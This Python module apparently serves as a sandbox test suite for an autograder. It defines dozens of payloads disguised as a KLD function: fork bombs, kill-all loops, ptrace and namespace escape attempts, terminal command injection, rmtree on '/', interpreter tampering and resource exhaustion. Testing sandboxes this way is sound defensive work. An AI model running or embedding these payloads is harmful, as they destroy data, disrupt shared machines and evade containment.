"""Attacks on the machine, the grader and the other submissions."""

from attacks import Attack

LOOP = "    while True:\n        pass\n"

ATTACKS = {
    "endless loop": Attack("use as much time as possible", f"def KLD(mean, log_std):\n{LOOP}"),
    "endless loop at import": Attack("use up the time limit of every question", "while True:\n    pass"),
    "an unstoppable loop": Attack(
        "ignore alarms and signals, and catch every exception",
        """
def KLD(mean, log_std):
    import signal
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    ),
    "asleep": Attack("use time without computing", "import time\ndef KLD(mean, log_std):\n    time.sleep(100000)\n"),
    "stopped": Attack(
        "stop, and wait for SIGCONT",
        "import signal\ndef KLD(mean, log_std):\n    signal.raise_signal(signal.SIGSTOP)\n    signal.pause()\n",
    ),
    "endless output": Attack(
        "fill the pipes and logs",
        "import os, sys\ndef KLD(mean, log_std):\n    while True:\n        print('x' * 100000)\n"
        "        sys.stderr.write('y' * 100000)\n        os.write(1, b'z' * 100000)\n",
    ),
    "endless answer": Attack(
        "never finish a message",
        "def KLD(mean, log_std):\n    import os\n    while True:\n        for fd in range(3, 20):\n            try:\n"
        "                os.write(fd, b'\\0\\0\\0\\1' * 1000)\n            except OSError:\n                pass\n",
    ),
    "deep recursion": Attack(
        "overflow the stack",
        "import sys\ndef KLD(mean, log_std):\n    sys.setrecursionlimit(10**9)\n    return KLD(mean, log_std)\n",
    ),
    "segmentation fault": Attack("cause SIGSEGV", "import ctypes\ndef KLD(mean, log_std):\n    ctypes.string_at(0)\n"),
    "abort": Attack("cause SIGABRT", "import os\ndef KLD(mean, log_std):\n    os.abort()\n"),
    "memory": Attack(
        "use all memory",
        "def KLD(mean, log_std):\n    kept = []\n    while True:\n        kept.append(torch.ones(10_000_000))\n",
    ),
    "shared memory": Attack(
        "use memory that no process owns",
        """
def KLD(mean, log_std):
    import mmap
    kept = []
    while True:
        page = mmap.mmap(-1, 1 << 28)
        for start in range(0, 1 << 28, 1 << 22):
            page[start : start + (1 << 22)] = bytes(1 << 22)
        kept.append(page)
""",
    ),
    "page tables": Attack(
        "use up kernel memory with page tables",
        """
def KLD(mean, log_std):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_size_t
    while True:
        start = libc.mmap(None, ctypes.c_size_t(1 << 40), 1, 0x4022, -1, ctypes.c_long(0))
        if start == 2**64 - 1:
            raise MemoryError
        libc.madvise(ctypes.c_size_t(start), ctypes.c_size_t(1 << 40), 15)
        for offset in range(0, 1 << 40, 1 << 21):
            ctypes.c_char.from_address(start + offset).value
""",
    ),
    "memory files": Attack(
        "use memory through in-memory files",
        """
def KLD(mean, log_std):
    import os
    files = []
    try:
        files.append(os.memfd_create("x"))
    except OSError:
        pass
    for folder in ("/dev/shm", "/run", "/tmp", "/scratch"):
        try:
            files.append(os.open(f"{folder}/<MARKER>-big", os.O_RDWR | os.O_CREAT))
        except OSError:
            pass
    while files:
        for file in files:
            os.write(file, bytes(1 << 24))
    raise MemoryError
""",
    ),
    "disk": Attack(
        "fill the disk with large files, some of them already unlinked",
        """
def KLD(mean, log_std):
    import os, tempfile
    folder, kept = tempfile.gettempdir(), []
    for number in range(10**9):
        with open(f"{folder}/<MARKER>-{number}", "wb", buffering=0) as file:
            if number % 4 == 0:
                kept.append(os.dup(file.fileno()))
                os.unlink(file.name)
            try:
                for _ in range(15):
                    file.write(bytes(1 << 22))
            except OSError:
                if number > 1000:
                    raise
""",
    ),
    "many files": Attack(
        "use up all inodes on the disk",
        "def KLD(mean, log_std):\n    import os, tempfile\n    for number in range(10**9):\n"
        "        os.close(os.open(f'{tempfile.gettempdir()}/<MARKER>-{number}', os.O_CREAT))\n",
    ),
    "deep folders": Attack(
        "leave folders nested too deeply to be deleted",
        """
def KLD(mean, log_std):
    import os, tempfile
    os.chdir(tempfile.gettempdir())
    for _ in range(4000):
        os.mkdir("<MARKER>", 0o700)
        os.chdir("<MARKER>")
    os.mkdir("locked", 0o000)
    raise RuntimeError("deep enough")
""",
    ),
    "fork bomb": Attack(
        "start processes endlessly",
        """
import ctypes, os
libc = ctypes.CDLL(None)

def KLD(mean, log_std):
    for start in (os.fork, os.forkpty, libc.fork, libc.vfork, lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
        try:
            if start() >= 0:
                open("<CANARY>/forked", "w")
        except OSError:
            pass
    import subprocess, multiprocessing
    for start in (
        lambda: subprocess.Popen(["/bin/sleep", "1000"]), lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
        lambda: multiprocessing.Process(target=print).start(), lambda: os.execv("/bin/sleep", ["sleep", "1000"]),
        lambda: os.system("setsid sleep 1000 &"),
    ):
        try:
            start()
        except OSError:
            pass
    raise RuntimeError("none left")
""",
    ),
    "threads": Attack(
        "start threads endlessly",
        """
def KLD(mean, log_std):
    import threading, time
    threading.stack_size(32768)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except (RuntimeError, MemoryError):
            pass
""",
    ),
    "a thread that outlives the answer": Attack(
        "keep running after giving the answer",
        """
import threading, time

def work():
    while True:
        try:
            open("<CANARY>/late", "w")
        except OSError:
            time.sleep(0.01)

for daemon in (True, False):
    threading.Thread(target=work, daemon=daemon).start()
""",
        everywhere=True,
    ),
    "a process that outlives the grading": Attack(
        "outlive the grading",
        """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.1)
                open("<CANARY>/late", "a").write("still here")
        os._exit(0)
except OSError:
    pass
""",
        everywhere=True,
    ),
    "kill all": Attack(
        "kill every process that it can",
        """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for pid in [-1, 0, os.getppid(), -os.getpgrp(), *range(2, 33000)]:
    try:
        os.kill(pid, signal.SIGKILL) if pid not in (os.getpid(), 0) else None
    except OSError:
        pass
    libc.syscall(200, pid, 9)
    libc.syscall(234, pid, pid, 9)
""",
        everywhere=True,
    ),
    "kill the parent": Attack(
        "kill the warden process",
        "import os, signal\nfor pid in {os.getppid(), os.getppid() - 1, os.getppid() + 1}:\n"
        "    for number in (signal.SIGKILL, signal.SIGSTOP):\n        try:\n            os.kill(pid, number)\n"
        "        except OSError:\n            pass\n",
        everywhere=True,
    ),
    "a signal through a file": Attack(
        "have the kernel send a signal when a file becomes readable",
        """
import fcntl, os, struct

def own(fd, pid):
    for change in (
        lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, pid), lambda: fcntl.fcntl(fd, 15, struct.pack("ii", 1, pid)),
        lambda: fcntl.ioctl(fd, 0x8901, struct.pack("i", pid)),
    ):
        try:
            change()
            fcntl.fcntl(fd, 10, 9)
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass

def KLD(mean, log_std):
    for pid in {os.getppid(), -os.getpgrp(), *range(2, 2000)} - {0, os.getpid()}:
        read, write = os.pipe()
        own(read, pid)
        os.write(write, b"x")
        os.close(read), os.close(write)
    return mean.sum(-1) * 0
""",
    ),
    "trace the parent": Attack(
        "change the memory of other processes",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, 2, *range(os.getpid() - 50, os.getpid())}:
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, None, None) == 0:
            open("<CANARY>/traced", "w")
    try:
        open(f"/proc/{pid}/mem", "wb")
    except OSError:
        pass
libc.prctl(1, 0, 0, 0, 0)
""",
        everywhere=True,
    ),
    "higher limits": Attack(
        "raise the limits, then exceed the old ones",
        """
import ctypes, os, resource
for which in range(16):
    for most in (resource.RLIM_INFINITY, 1 << 40):
        try:
            resource.setrlimit(which, (most, most))
        except (OSError, ValueError):
            pass
for change in (
    lambda: os.nice(-20), lambda: os.setpriority(0, 0, -20), lambda: os.sched_setscheduler(0, 1, os.sched_param(99))
):
    try:
        change()
    except OSError:
        pass

def KLD(mean, log_std):
    kept = []
    while True:
        kept.append(torch.ones(10_000_000))
""",
    ),
    "new namespaces": Attack(
        "become root in its own namespace, and mount the machine's disks",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10020000, 0x40000000, 0x7E020000):
    if libc.unshare(flags) == 0:
        open("/tmp/unshared", "w")
for source in (b"/proc", b"proc", b"tmpfs", b"/dev/vda"):
    for kind in (b"proc", b"tmpfs", b"ext4", None):
        for flags in (0, 4096, 32, 4128):
            for target in (b"/scratch", b"/", b"/usr", b"/old"):
                if libc.mount(source, target, kind, flags, None) == 0:
                    open("/scratch/mounted", "w")
libc.umount2(b"/", 2), libc.chroot(b"/"), libc.setns(3, 0), libc.setuid(0), libc.setresuid(0, 0, 0)
for number in (428, 429, 430, 442):
    libc.syscall(number, -100, b"/", 0, 0, 0)
""",
        everywhere=True,
    ),
    "device files": Attack(
        "create a device file for the disk, and read from it",
        """
import os, stat, tempfile
for major, minor in ((254, 0), (8, 0), (259, 0), (1, 1), (1, 2)):
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        path = f"{tempfile.gettempdir()}/device-{major}-{minor}-{kind}"
        try:
            os.mknod(path, kind | 0o666, os.makedev(major, minor))
            if os.read(os.open(path, os.O_RDONLY), 16):
                raise RuntimeError("<MARKER>-found a device")
        except OSError:
            pass
""",
        everywhere=True,
    ),
    "other people's permissions": Attack(
        "change permissions and modification times",
        """
import os
for path in ("<CANARY>", "<CANARY>/secret", "<REPOSITORY>/setup.cfg", "<OTHER>", os.path.dirname(__file__), __file__):
    for change in (
        lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, 12345, 12345), lambda p: os.utime(p, (1, 1)),
        lambda p: os.setxattr(p, "user.x", b"1"), lambda p: os.truncate(p, 0), lambda p: os.lchown(p, 12345, 12345),
    ):
        try:
            change(path)
        except OSError:
            pass
""",
        everywhere=True,
    ),
    "delete all": Attack(
        "delete every file that it can",
        """
import os, shutil
for path in ("<CANARY>", "<OTHER>", "<REPOSITORY>", os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "/"):
    shutil.rmtree(path, ignore_errors=True)
""",
    ),
    "write all": Attack(
        "modify the interpreter, the staff's kit and the submission itself",
        """
import os, sys
for folder in [*sys.path, os.path.dirname(os.__file__), os.path.dirname(torch.__file__), "/etc", "/tmp", "/"]:
    for name in ("sitecustomize.py", "<MARKER>.pth", "part1_vae/utils.py", "adapters/part1.py", "staff/__init__.py"):
        try:
            open(os.path.join(folder, name), "a").write("raise SystemExit\\n")
        except OSError:
            pass
""",
        everywhere=True,
    ),
    "terminal": Attack(
        "type a command into the grader's terminal",
        """
import fcntl, os
for path in (0, 1, 2, 3, 4, 5, "/dev/tty", "/dev/console", "/dev/pts/0"):
    try:
        fd = path if isinstance(path, int) else os.open(path, os.O_RDWR)
        for char in "touch <CANARY>/typed\\n":
            fcntl.ioctl(fd, 0x5412, char.encode())
    except OSError:
        pass
""",
        everywhere=True,
    ),
    "other processes' priority": Attack(
        "slow down the grader",
        """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in {os.getppid(), *range(os.getpid() - 20, os.getpid())}:
    for change in (
        lambda: os.sched_setscheduler(pid, 5, os.sched_param(0)), lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: libc.syscall(251, 1, pid, 3 << 13),
    ):
        try:
            change()
        except OSError:
            pass
libc.shmctl(0, 0, None), libc.semctl(0, 0, 0), libc.msgctl(0, 0, None)
""",
        everywhere=True,
    ),
}
